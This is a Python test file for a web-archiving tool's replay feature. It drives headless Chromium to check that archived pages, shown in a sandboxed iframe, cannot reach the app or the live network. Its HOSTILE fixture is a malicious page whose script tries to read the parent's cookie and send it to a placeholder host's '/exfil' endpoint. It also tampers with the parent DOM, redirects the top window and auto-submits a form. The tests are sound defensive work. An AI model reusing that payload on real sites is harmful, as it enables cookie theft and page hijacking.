"""Replay in a real headless Chromium: a hostile archived page runs nothing in the app's origin and loads
nothing live; a simple article renders with its image and styles from the archive (its site stopped).

The app origin here is a tiny embedding page on its own port, framing replay with
:func:`~presswatch.web.replay.replay_iframe` (``<iframe sandbox="allow-scripts">``, as the web app does);
replay is served by uvicorn on another port. Every request the browser makes is recorded; anything not
addressed to those two origins is aborted before it leaves (and the browser's proxy is a closed local
port, so nothing could leave anyway).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from replaysupport import Site, article_site, running_site
from runsupport import local_http
from sqlalchemy import select

from presswatch.core import Presswatch
from presswatch.record.models import Capture
from presswatch.settings import Settings
from presswatch.web.replay import create_replay_app, replay_iframe

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run",
        "--proxy-server=http://127.0.0.1:9", "--proxy-bypass-list=127.0.0.1"]
LIVE = "http://203.0.113.9"
APP_COOKIE = "app_session=app-secret-cookie"

HOSTILE = f"""<!doctype html><html><head><title>Hostile</title>
<meta http-equiv=refresh content="1;url={LIVE}/refresh">
<style>body {{ background: url({LIVE}/bg.png) }}</style></head>
<body><h1>Hostile page</h1>
<script>
var r = {{kind: "script"}};
try {{ r.parentCookie = parent.document.cookie; }} catch (e) {{ r.parentCookie = "blocked"; }}
try {{ parent.document.body.setAttribute("data-pwned", "1"); r.marker = "set"; }} catch (e) {{ r.marker = "blocked"; }}
try {{ r.ownCookie = document.cookie; }} catch (e) {{ r.ownCookie = "blocked"; }}
try {{ localStorage.setItem("pwned", "1"); r.storage = "set"; }} catch (e) {{ r.storage = "blocked"; }}
try {{ fetch("{LIVE}/exfil?c=" + encodeURIComponent(String(r.parentCookie))).catch(function () {{}}); }} catch (e) {{}}
try {{ new Image().src = "{LIVE}/beacon.gif"; }} catch (e) {{}}
try {{ window.top.location = "{LIVE}/navigated"; r.top = "navigated"; }} catch (e) {{ r.top = "blocked"; }}
parent.postMessage(JSON.stringify(r), "*");
</script>
<img src="{LIVE}/track.gif" onerror="parent.postMessage(JSON.stringify({{kind: 'onerror'}}), '*')">
<form id=f action="{LIVE}/post" method=post><input name=q value=x></form>
<script>try {{ document.getElementById("f").submit(); }} catch (e) {{}}</script>
</body></html>"""

EMBED = """<!doctype html><html><head><title>App</title><script>
window.received = [];
addEventListener("message", function (e) { window.received.push({origin: e.origin, data: String(e.data)}); });
</script></head><body><h1>app page</h1>
%s</body></html>"""


def _browser_or_skip() -> Any:
    required = os.environ.get("PRESSWATCH_REQUIRE_BROWSER") == "1"
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        if required:
            pytest.fail("playwright is required (PRESSWATCH_REQUIRE_BROWSER=1) but not installed")
        pytest.skip("playwright not installed")
    if not (os.path.exists(CHROMIUM) or shutil.which("chromium")):
        if required:
            pytest.fail(f"{CHROMIUM} is required (PRESSWATCH_REQUIRE_BROWSER=1) but missing")
        pytest.skip(f"{CHROMIUM} not installed")
    return sync_playwright


def _listening() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    return sock


@contextlib.contextmanager
def _uvicorn(app: Any, sock: socket.socket) -> Iterator[None]:
    import uvicorn

    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    for _ in range(500):
        if server.started:
            break
        threading.Event().wait(0.01)
    try:
        yield
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()


@dataclass
class Rig:
    core: Presswatch
    site: Site
    app_origin: str
    replay_origin: str
    requests: list[str] = field(default_factory=list)
    aborted: list[str] = field(default_factory=list)
    failed: dict[str, str] = field(default_factory=dict)
    routed: list[str] = field(default_factory=list)

    def capture(self, url: str) -> Capture:
        with self.core.db.session() as s:
            return s.scalars(select(Capture).where(Capture.url == url).order_by(Capture.id.desc()).limit(1)).one()


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    _browser_or_skip()
    app_sock, replay_sock = _listening(), _listening()
    app_origin = f"http://127.0.0.1:{app_sock.getsockname()[1]}"
    replay_origin = f"http://127.0.0.1:{replay_sock.getsockname()[1]}"
    app_sock.close()  # the embedding page is served by http.server below, on a port of its own
    settings = Settings(data=tmp_path / "data", allow_private=True, respect_robots=False, timeout=5.0,
                        replay_origin=replay_origin)
    core = Presswatch.open(settings)

    class Embed(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server API
            q = parse_qs(urlsplit(self.path).query)
            src = replay_origin + q.get("src", ["/"])[0]
            body = (EMBED % replay_iframe(src, "replay", width="900", height="700")).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    with running_site() as site, local_http(Embed) as app_port:
        app_origin = f"http://127.0.0.1:{app_port}"
        core.settings.app_origin = app_origin
        with _uvicorn(create_replay_app(core), replay_sock):
            yield Rig(core, site, app_origin, replay_origin)
    core.close()


def _visit(rig: Rig, src: str) -> tuple[Any, Any, list[dict[str, str]], str, str | None]:
    """Open the app's embedding page for replay path ``src``; (the page's outcome, frame facts)."""
    sync_playwright = _browser_or_skip()
    allowed = (rig.app_origin, rig.replay_origin)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            context = browser.new_context()
            context.add_cookies([{"name": "app_session", "value": "app-secret-cookie", "url": rig.app_origin}])

            def route(r: Any) -> None:
                url = r.request.url
                rig.routed.append(url)
                if url.startswith(allowed):
                    r.continue_()
                else:
                    rig.aborted.append(url)
                    r.abort()

            context.route("**/*", route)
            context.on("request", lambda req: rig.requests.append(req.url))
            context.on("requestfailed", lambda req: rig.failed.__setitem__(req.url, req.failure or ""))
            page = context.new_page()
            page.goto(f"{rig.app_origin}/embed?src={src}", wait_until="load")
            page.wait_for_timeout(1500)  # let timers, the meta refresh and late loads have their chance
            frame = next(f for f in page.frames if f.url.startswith(rig.replay_origin))
            facts = frame.evaluate("""() => {
                const h1 = document.querySelector('h1#headline');
                const lead = document.querySelector('p.lead');
                const img = document.querySelector('img#photo');
                return {
                    h1Color: h1 ? getComputedStyle(h1).color : null,
                    leadColor: lead ? getComputedStyle(lead).color : null,
                    imgWidth: img ? img.naturalWidth : null,
                    imgComplete: img ? img.complete : null,
                    title: document.title,
                };
            }""")
            received = page.evaluate("window.received")
            cookie = page.evaluate("document.cookie")
            pwned = page.evaluate("document.body.getAttribute('data-pwned')")
            storage = page.evaluate("localStorage.getItem('pwned')")
            return facts, frame.url, received, cookie, pwned or storage
        finally:
            browser.close()


def _only_two_origins(rig: Rig) -> None:
    """Nothing reached the network but the app and replay origins: every other request the page made
    was refused inside the renderer by the replay CSP, before the network layer (which aborts and
    lists anything else that reaches it)."""
    local = (rig.app_origin, rig.replay_origin, "about:", "data:")
    outside = [u for u in rig.requests if not u.startswith(local)]
    assert all(rig.failed.get(u) in ("csp", "net::ERR_BLOCKED_BY_CSP") for u in outside), (outside, rig.failed)
    assert [u for u in rig.routed if not u.startswith(local)] == []
    assert rig.aborted == []


def test_hostile_page_runs_nothing_in_the_app_origin_and_loads_nothing_live(rig: Rig) -> None:
    rig.core.settings.capture_requisites = False  # the page names a live host: it must never be fetched
    url = rig.site.page("/hostile", HOSTILE.encode())
    asyncio.run(rig.core.check([url]))
    cap = rig.capture(url)

    facts, frame_url, received, cookie, effect = _visit(rig, f"/c/{cap.id}")
    assert frame_url == f"{rig.replay_origin}/c/{cap.id}"
    _only_two_origins(rig)
    assert any(u.startswith(f"{rig.replay_origin}/c/{cap.id}") for u in rig.requests)
    messages = [json.loads(m["data"]) for m in received]
    script = next(m for m in messages if m["kind"] == "script")  # the archived script ran, contained:
    assert script["parentCookie"] == "blocked"  # the app's cookie was not readable
    assert script["marker"] == "blocked"  # the app's document could not be touched
    assert script["ownCookie"] == "blocked" and script["storage"] == "blocked"  # an opaque origin
    assert script["top"] == "blocked"  # no navigation of the app's window
    assert all(m["origin"] == "null" for m in received)  # a sandboxed, opaque origin sent them
    assert cookie == APP_COOKIE  # the app's cookie is unchanged
    assert effect is None  # no marker and no storage reached the app origin
    assert facts["title"] == "Hostile"  # no navigation away (meta refresh, form, script)


def test_evidence_view_runs_no_script(rig: Rig) -> None:
    rig.core.settings.capture_requisites = False
    url = rig.site.page("/hostile", HOSTILE.encode())
    asyncio.run(rig.core.check([url]))
    cap = rig.capture(url)
    facts, _url, received, cookie, effect = _visit(rig, f"/c/{cap.id}/evidence")
    _only_two_origins(rig)
    assert received == []  # neither the scripts nor the onerror handler ran
    assert cookie == APP_COOKIE and effect is None
    assert facts["title"] == "Hostile"


def test_article_renders_from_the_archive_with_its_site_gone(rig: Rig) -> None:
    url = article_site(rig.site)
    asyncio.run(rig.core.check([url]))
    cap = rig.capture(url)
    base = rig.site.base
    rig.site.stop()  # nothing can come from the live site now

    facts, _url, _received, _cookie, _effect = _visit(rig, f"/c/{cap.id}")
    _only_two_origins(rig)
    assert not any(u.startswith(base) for u in rig.requests)
    assert facts["imgComplete"] is True and facts["imgWidth"] == 37  # the archived image
    assert facts["h1Color"] == "rgb(1, 2, 3)"  # the archived stylesheet
    assert facts["leadColor"] == "rgb(4, 5, 6)"  # …and the stylesheet it @imports
    replayed = [u for u in rig.requests if u.startswith(rig.replay_origin + "/w/")]
    for path in ("/static/site.css", "/static/extra.css", "/static/photo.png"):
        assert any(u.endswith(base + path) for u in replayed), path
